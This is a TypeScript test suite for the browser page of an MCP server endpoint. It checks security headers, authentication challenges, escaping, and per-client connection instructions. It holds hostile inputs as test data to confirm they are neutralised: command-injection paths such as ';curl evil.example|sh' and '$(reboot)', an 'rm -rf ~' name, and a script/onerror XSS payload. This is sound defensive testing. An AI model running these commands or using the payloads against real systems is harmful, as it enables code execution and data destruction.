/** What a browser gets at the endpoint's address, and that nobody else gets anything else. Source: rules.md, Authentication;
 *  rules.md, Easy to miss. */
import { createHash } from 'node:crypto'
import t from 'tap'
import type { PageSignIn } from '../../../runtime/contract/pages.ts'
import type { McpEndpointOptions } from '../../../runtime/mcp/server.ts'
import { clientEntries, documentsLine, entryName, shellWord } from '../../../templates/pages/clients.ts'
import { type Answer, catalogue, message, type Sent, serve } from '../support/support.ts'

const browserAccept = 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8'
const browser: Sent = { method: 'GET', headers: { accept: browserAccept } }

const signIn: PageSignIn = {
  clientId: 'acmcp-pages',
  issuer: 'https://notes.example',
  authorizationEndpoint: 'https://notes.example/oauth/authorize',
  tokenEndpoint: 'https://notes.example/oauth/token',
  revocationEndpoint: 'https://notes.example/oauth/revoke',
  scope: 'api',
}
const admits = { nativeRedirects: false, offlineAccess: false, secrets: false, documents: false }
const page: McpEndpointOptions['page'] = { serviceName: 'Notes', signIn, admits }

/** The endpoint asks for a bearer token. */
const guarded: Partial<McpEndpointOptions> = {
  page,
  authProbe: '/api/users/current',
  resourceMetadata: () => ({ authorizationServers: ['https://notes.example'], scopesSupported: ['api'] }),
}

const at = (url: string): Sent => ({ ...browser, url })

const textOf = (markup: string): string =>
  markup
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&')

/** What the script is told; null on a page without one's tools. */
function settingsOf({ text }: Answer): Record<string, unknown> | null {
  const [, written] = /data-connect="([^"]*)"/.exec(text) ?? []
  return written === undefined ? null : JSON.parse(textOf(written))
}

const inline = (text: string, tag: string): string =>
  new RegExp(`<${tag}>(.*)</${tag}>`, 's').exec(text)?.[1] ?? ''
const hash = (text: string): string => createHash('sha256').update(text).digest('base64')

t.test(
  'where the probe refuses, the page is the body of the 401, and the challenge is as it was',
  async (t) => {
    const app = serve(guarded)
    const challenged = await app({ method: 'GET' })
    const shown = await app(browser)
    const { text, headers } = shown
    t.equal(shown.status, 401)
    const script = inline(text, 'script')
    const style = inline(text, 'style')
    t.strictSame(headers, {
      'cache-control': 'no-store',
      'content-type': 'text/html; charset=utf-8',
      'content-security-policy': [
        "default-src 'none'",
        `script-src 'sha256-${hash(script)}'`,
        `style-src 'sha256-${hash(style)}'`,
        "connect-src 'self'",
        "base-uri 'none'",
        "require-trusted-types-for 'script'",
        "trusted-types 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
      ].join('; '),
      'referrer-policy': 'no-referrer',
      vary: 'accept, Origin',
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'www-authenticate': challenged.headers['www-authenticate'],
    })
    t.match(
      headers['www-authenticate'],
      /^Bearer resource_metadata="[^"]+oauth-protected-resource\/mcp", scope="api"$/,
    )
    t.match(text, '<code>https://notes.example/mcp</code>')
    t.notMatch(text, /<[^>]+\s(?:on\w+|src|style)=|javascript:/i, 'no handlers, nothing from elsewhere')
    const bad = await app({ ...browser, headers: { accept: browserAccept, authorization: 'Bearer bad' } })
    t.match(bad.headers['www-authenticate'], /error="invalid_token"$/)
  },
)

t.test('the page of a 401 says how to connect and nothing of the tools', async (t) => {
  const app = serve(guarded)
  const { toolboxes, tools, instructions } = catalogue
  const cookie = {
    ...browser,
    headers: { accept: browserAccept, cookie: 'acmcp_session=signed-in', authorization: 'Bearer bad' },
  }
  for (const sent of [browser, at('/mcp/notes'), at('/mcp/nobox'), at('/mcp?toolboxes=all'), cookie]) {
    const { status, text } = await app(sent)
    t.equal(status, 401)
    const words = [...tools.flatMap(({ name, description }) => [name, description]), instructions]
    t.strictSame(
      words.filter((word) => text.includes(word)),
      [],
      sent.url ?? '',
    )
    t.notMatch(
      text,
      new RegExp(toolboxes.map(({ description }) => description.replace('.', '\\.')).join('|')),
    )
  }
})

t.test('an address of one toolbox is what is copied there; one of no toolbox is not repeated', async (t) => {
  const app = serve(guarded)
  t.match((await app(at('/mcp/notes'))).text, '<code>https://notes.example/mcp/notes</code>')
  for (const made of ['/mcp/$(reboot)', '/mcp/;curl evil.example|sh', '/mcp/nobox']) {
    const { text } = await app(at(made))
    t.match(text, '<code>https://notes.example/mcp</code>')
    t.notMatch(textOf(text), /reboot|evil\.example|nobox/)
  }
})

t.test('with API keys the challenge of the page is the bare one', async (t) => {
  const shown = await serve({ ...guarded, resourceMetadata: null })(browser)
  t.strictSame([shown.status, shown.headers['www-authenticate']], [401, 'Bearer'])
})

t.test('whoever is no browser gets what there was without the page, to the byte', async (t) => {
  const accepts = [
    undefined,
    '',
    '*/*',
    'application/json',
    'application/json, text/event-stream',
    'text/event-stream',
    'text/html, text/event-stream',
    'text/html;q=0.5, application/json',
    'text/html, application/json',
    'text/*',
    'text/html;q=0',
    'application/xhtml+xml',
  ]
  const open: Partial<McpEndpointOptions> = { page }
  for (const options of [guarded, open]) {
    const [withPage, without] = [serve(options), serve({ ...options, page: null })]
    const same = async (sent: Sent, label: string): Promise<void> =>
      void t.strictSame(await withPage(sent), await without(sent), label)
    for (const accept of accepts) {
      const isStream = accept === undefined || accept.includes('event-stream')
      if (isStream && options.authProbe === undefined) continue // nothing to compare
      const headers: Record<string, string> = accept === undefined ? {} : { accept }
      await same({ method: 'GET', headers }, `GET ${accept}`)
    }
    for (const method of ['PUT', 'DELETE', 'OPTIONS', 'TRACE', 'PATCH'])
      await same({ ...browser, method }, `${method} of a browser`)
    const posted = message('legacy', 'tools/list')
    await same({ ...posted, headers: { accept: browserAccept } }, 'POST of a browser')
    await same({ ...posted }, 'POST of a client')
  }
})

t.test('HEAD has the headers of the page', async (t) => {
  const app = serve(guarded)
  const [head, get] = [await app({ ...browser, method: 'HEAD' }), await app(browser)]
  t.strictSame([head.status, head.headers], [get.status, get.headers])
})

t.test('without the setting a browser gets what everybody gets', async (t) => {
  const off = serve({ ...guarded, page: null })
  const { status, headers, text } = await off(browser)
  t.strictSame([status, headers['content-type']], [401, 'application/json'])
  t.equal(text, '{"jsonrpc":"2.0","error":{"code":-32600,"message":"Unauthorized"},"id":null}')
})

t.test('where the probe allows, the page is 200 and shows the tools', async (t) => {
  const open = serve({ page })
  const { status, headers, text } = await open(browser)
  t.strictSame(
    [status, headers['www-authenticate'], headers['cache-control'], headers.vary],
    [200, undefined, 'no-store', 'accept, Origin'],
  )
  for (const shown of ['users_current', 'list_toolboxes', 'call_tool', 'Notes.', 'Files.'])
    t.match(text, shown)
  t.notMatch(text, 'notes_delete', 'as a model sees it first: toolboxes stay closed')
  const box = await open(at('/mcp/notes'))
  t.match(box.text, /notes_delete<\/code><p class="text">notes_delete in full\./)
  t.notMatch(box.text, 'list_toolboxes<')
  t.match((await open(at('/mcp?toolboxes=all'))).text, 'notes_delete')
  t.strictSame(await open(at('/mcp/nobox')), await serve()(at('/mcp/nobox')), '404 as ever')
  const good = await serve(guarded)({
    ...browser,
    headers: { accept: browserAccept, authorization: 'Bearer good' },
  })
  t.strictSame([good.status, settingsOf(good)?.isAllowed], [200, true])
})

t.test('a foreign origin or host is refused before there is a page', async (t) => {
  const app = serve({ ...guarded, allowedHosts: ['localhost'] })
  const foreign = await app({ ...browser, headers: { accept: browserAccept, host: 'evil.example' } })
  t.strictSame([foreign.status, foreign.headers['content-type']], [403, 'application/json'])
  const origin = { accept: browserAccept, origin: 'https://evil.example' }
  const sent = await serve(guarded)({ ...browser, headers: origin })
  t.strictSame([sent.status, sent.headers['content-type']], [403, 'application/json'])
})

t.test('what the script is told', async (t) => {
  const shown = async (options: Partial<McpEndpointOptions>, url = '/mcp') =>
    settingsOf(await serve(options)(at(url)))
  const reported = {
    mcpPath: '/mcp',
    isToolbox: false,
    isAllowed: false,
    listToolboxes: 'list_toolboxes',
    signIn: { ...signIn, redirectUri: 'https://notes.example/mcp', resource: 'https://notes.example/mcp' },
  }
  t.strictSame(await shown(guarded), reported)
  t.strictSame(await shown(guarded, '/mcp/notes'), { ...reported, isToolbox: true })
  const elsewhere = { authorizationServers: ['https://id.example'], scopesSupported: [] }
  t.equal(
    await shown({ ...guarded, resourceMetadata: () => elsewhere }),
    null,
    'another server issues the tokens',
  )
  const origins = { ...guarded, allowedOrigins: ['https://app.example'] }
  t.equal(await shown(origins), null, 'the endpoint takes nothing from our own origin')
  t.equal(
    await shown({ ...guarded, page: { serviceName: 'Notes', signIn: null, admits } }),
    null,
    'nobody can sign in',
  )
  t.strictSame(await shown({ page: { serviceName: 'Notes', signIn: null, admits } }), {
    ...reported,
    isAllowed: true,
    signIn: null,
  })
})

t.test('texts of tools and names are text, whatever they hold', async (t) => {
  const evil = '</code></script><script>alert(1)</script><img src=x onerror=alert(1)>"\'&'
  const tools = catalogue.tools.map((tool) => ({ ...tool, description: evil, summary: evil, title: evil }))
  const toolboxes = catalogue.toolboxes.map(({ name }) => ({ name, description: evil }))
  const { text } = await serve({
    page: { serviceName: evil, signIn, admits },
    catalogue: { ...catalogue, tools, toolboxes },
  })(browser)
  t.equal(text.match(/<script/g)?.length, 1)
  t.notMatch(text, /<img/)
  t.ok(textOf(text).split(evil).length > 5, 'they are all there, escaped')
})

t.test('the script of the page is one script that reads, and ends nowhere early', async (t) => {
  const { text } = await serve({ page })(browser)
  const script = inline(text, 'script')
  t.notMatch(
    script,
    /<\/script|<!--|\bimport\b|\bexport\b|innerHTML|insertAdjacentHTML|document\.write|eval\(|localStorage/i,
  )
  t.doesNotThrow(() => new Function(script))
})

t.test('decisions, mcp.path: commands carry every path as one word', async (t) => {
  const path = "/(a)!'~;v=1,2@$&+"
  const { text } = await serve({ page, path })({ ...browser, url: path })
  const word = `'https://notes.example/(a)!'\\''~;v=1,2@$&+'`
  t.match(textOf(text), `claude mcp add --transport http notes ${word}`)
  t.equal(shellWord('https://a.example/m%C3%BC/~x?y'), `'https://a.example/m%C3%BC/~x?y'`)
  t.equal(shellWord('https://a.example:8443/mcp'), 'https://a.example:8443/mcp')
})

t.test('the entries, each as its client takes it', async (t) => {
  const entries = (isOpen: boolean) =>
    Object.fromEntries(
      clientEntries({ name: 'notes', address: 'https://n.example/mcp', isOpen, admits: null }).map(
        ({ client, copies }) => [client, copies.map(({ text }) => text)],
      ),
    )
  const guardedEntries = entries(false)
  const parsed = (text: string | undefined): unknown => JSON.parse(text ?? '')
  t.strictSame(Object.keys(guardedEntries), [
    'Claude',
    'Claude Code',
    'ChatGPT',
    'Cursor',
    'VS Code',
    'Codex',
    'Gemini CLI',
    'Perplexity',
    'Copilot Studio',
    'MCP Inspector',
    'curl',
  ])
  t.strictSame(guardedEntries.Claude, ['https://n.example/mcp'])
  t.strictSame(guardedEntries['Claude Code'], ['claude mcp add --transport http notes https://n.example/mcp'])
  for (const pasting of ['ChatGPT', 'Perplexity', 'Copilot Studio'])
    t.strictSame(guardedEntries[pasting], ['https://n.example/mcp'], pasting)
  t.strictSame(guardedEntries['MCP Inspector'], [
    'npx @modelcontextprotocol/inspector --server-url https://n.example/mcp --transport http',
  ])
  t.strictSame(parsed(guardedEntries.Cursor?.[0]), {
    mcpServers: { notes: { url: 'https://n.example/mcp' } },
  })
  const server = { type: 'http', url: 'https://n.example/mcp' }
  t.strictSame(parsed(guardedEntries['VS Code']?.[0]), { servers: { notes: server } })
  t.equal(guardedEntries['VS Code']?.[1], `code --add-mcp '${JSON.stringify({ name: 'notes', ...server })}'`)
  const codex = 'codex mcp add notes --url https://n.example/mcp'
  t.strictSame(guardedEntries.Codex, [`${codex}\ncodex mcp login notes`])
  t.strictSame(entries(true).Codex, [codex])
  t.strictSame(guardedEntries['Gemini CLI'], [
    'gemini mcp add --scope user --transport http notes https://n.example/mcp',
  ])
  const rest = [
    "-H 'content-type: application/json'",
    "-H 'accept: application/json, text/event-stream'",
    `-d '{"jsonrpc":"2.0","id":1,"method":"tools/list"}'`,
  ]
  const curl = (lines: readonly string[]): string =>
    ['curl https://n.example/mcp', ...lines, ...rest].join(' \\\n  ')
  t.strictSame(guardedEntries.curl, [curl(['-H "authorization: Bearer $TOKEN"'])])
  t.strictSame(entries(true).curl, [curl([])])
})

t.test(
  'what stands in the way of a client is said where it does, and an address that the cloud does not reach',
  async (t) => {
    const all = { nativeRedirects: true, offlineAccess: true, secrets: true, documents: true }
    const said = (address: string, taken: typeof all | null): readonly string[] =>
      clientEntries({ name: 'notes', address, isOpen: false, admits: taken }).flatMap(
        ({ client, obstacle, steps }) => [
          ...(obstacle === null ? [] : [`${client}: ${/oauth\.\w+/.exec(obstacle)?.[0]}`]),
          ...(/does not reach/.test(steps) ? [`${client} is elsewhere`] : []),
        ],
      )
    const refused = [
      'Claude: oauth.profile',
      'Cursor: oauth.profile',
      'Perplexity: oauth.confidentialClients',
    ]
    const https = 'https://n.example/mcp'
    t.strictSame(said(https, { ...admits, documents: true }), refused)
    t.strictSame([said(https, all), said(https, null)], [[], []])
    t.strictSame(said(https, { ...all, secrets: false }), refused.slice(2))
    const far = ['Claude', 'ChatGPT', 'Perplexity', 'Copilot Studio'].map((name) => `${name} is elsewhere`)
    for (const address of [
      'http://localhost:3000/mcp',
      'https://localhost/mcp',
      'https://127.0.0.1:1/',
      'https://[::1]/mcp',
    ])
      t.strictSame(said(address, all), far, address)
    for (const name of ['127.example', 'localhost.example', '127.0.0.1.example'])
      t.strictSame(said(`https://${name}/mcp`, all), [], name)
    const line = (address: string, taken: typeof all | null): boolean =>
      documentsLine({ name: 'notes', address, isOpen: false, admits: taken }) !== null
    t.strictSame(
      [
        line('http://localhost/mcp', admits),
        line('http://localhost/mcp', all),
        line('http://localhost/mcp', null),
        line(https, admits),
      ],
      [true, false, false, false],
    )
    const shown = async (options: object): Promise<boolean> =>
      textOf((await serve({ ...guarded, ...options })(browser)).text).includes("oauth.profile: 'compatible'")
    const elsewhere = { authorizationServers: ['https://as.example'], scopesSupported: [] }
    const keys = { resourceMetadata: null }
    t.strictSame(
      await Promise.all(
        [{}, { resourceMetadata: () => elsewhere }, keys, { authProbe: null, resourceMetadata: null }].map(
          shown,
        ),
      ),
      [true, false, false, false],
      'of sign-in here alone',
    )
  },
)

t.test('the steps say how the client signs in here, and nothing of that where nobody does', async (t) => {
  const all = { nativeRedirects: true, offlineAccess: true, secrets: true, documents: true }
  const stepsOf = (isOpen: boolean, taken: typeof all | null): Readonly<Record<string, string>> =>
    Object.fromEntries(
      clientEntries({ name: 'notes', address: 'https://n.example/mcp', isOpen, admits: taken }).map(
        ({ client, steps }) => [client, steps],
      ),
    )
  const words = /sign in|OAuth[^.]*|client id and secret|Authentication is None/g
  const said = (steps: Readonly<Record<string, string>>): readonly string[] =>
    Object.entries(steps).flatMap(([client, text]) => {
      const found = text.match(words)
      return found === null ? [] : [`${client}: ${found.join(', ')}`]
    })
  const everywhere = [
    'Claude Code: sign in',
    'ChatGPT: OAuth, Create as a plugin',
    'Cursor: sign in',
    'Gemini CLI: sign in',
  ]
  t.strictSame(said(stepsOf(false, all)), [
    ...everywhere,
    'Perplexity: OAuth: its client id and secret come from the owner of this service',
    'Copilot Studio: OAuth 2',
    'MCP Inspector: sign in',
  ])
  t.match(stepsOf(false, all)['Copilot Studio'], 'OAuth 2.0, of the type Dynamic discovery.')
  t.strictSame(said(stepsOf(false, null)), [...everywhere, 'MCP Inspector: sign in'])
  t.strictSame(said(stepsOf(true, null)), ['Copilot Studio: Authentication is None'])
})

t.test('the name of an entry is one that every client takes', async (t) => {
  const names = ['Notes', 'My Shop & Co.', 'localhost:3000', '42', 'Ünïcode', '', '💥', `a'; rm -rf ~ #`]
  t.strictSame(names.map(entryName), [
    'notes',
    'my-shop-co',
    'localhost-3000',
    'mcp-42',
    'n-code',
    'mcp',
    'mcp',
    'a-rm-rf',
  ])
})
